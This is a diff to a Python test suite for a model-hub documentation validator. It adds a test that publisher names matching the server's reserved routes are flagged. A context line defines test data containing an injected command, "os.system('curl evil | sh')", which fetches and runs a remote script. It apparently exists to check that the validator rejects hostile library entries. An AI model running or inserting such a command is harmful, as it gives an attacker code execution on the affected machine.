@@ -138,6 +138,30 @@ def test_signature_summary_beside_the_doc_must_agree_with_format(valid_copy):
     assert problem.line == 0 and "Cannot read the signature summary" in problem.message
 
 
+def test_publishers_named_as_the_servers_routes_are_reported(tmp_path):
+    """/api/..., /static/... and /healthz are the server's: such a publisher's pages and
+    archives could not be reached."""
+    meta = "<!-- task: text-embedding -->\n<!-- fine-tunable: true -->\n<!-- format: hub -->\n"
+    asset = "<!-- asset-path: https://example.com/m.tar.gz -->\n"
+    for publisher in ("api", "static"):
+        docs = tmp_path / "assets/docs" / publisher
+        (docs / "models/m").mkdir(parents=True)
+        (docs / f"{publisher}.md").write_text(f"# Publisher {publisher}\nReserved.\n")
+        (docs / "models/m/1.md").write_text(f"# Module {publisher}/m/1\nM.\n\n{asset}{meta}")
+    problems = [str(problem) for problem in validator.validate_tree(tmp_path)]
+    reason = (
+        "a name tfhub serve's own routes use (reserved: api, healthz, static): its pages and "
+        "archives could not be reached; choose another publisher name"
+    )
+    assert problems == [
+        f"assets/docs/api/api.md:1: the handle 'api' has the publisher 'api', {reason}",
+        f"assets/docs/api/models/m/1.md:1: the handle 'api/m/1' has the publisher 'api', {reason}",
+        f"assets/docs/static/models/m/1.md:1: the handle 'static/m/1' has the publisher "
+        f"'static', {reason}",
+        f"assets/docs/static/static.md:1: the handle 'static' has the publisher 'static', {reason}",
+    ]
+
+
 HOSTILE_OP_LIBRARIES = ["os; os.system('curl evil | sh')", "tensorflow_text\nimport shutil", 3]
 
 
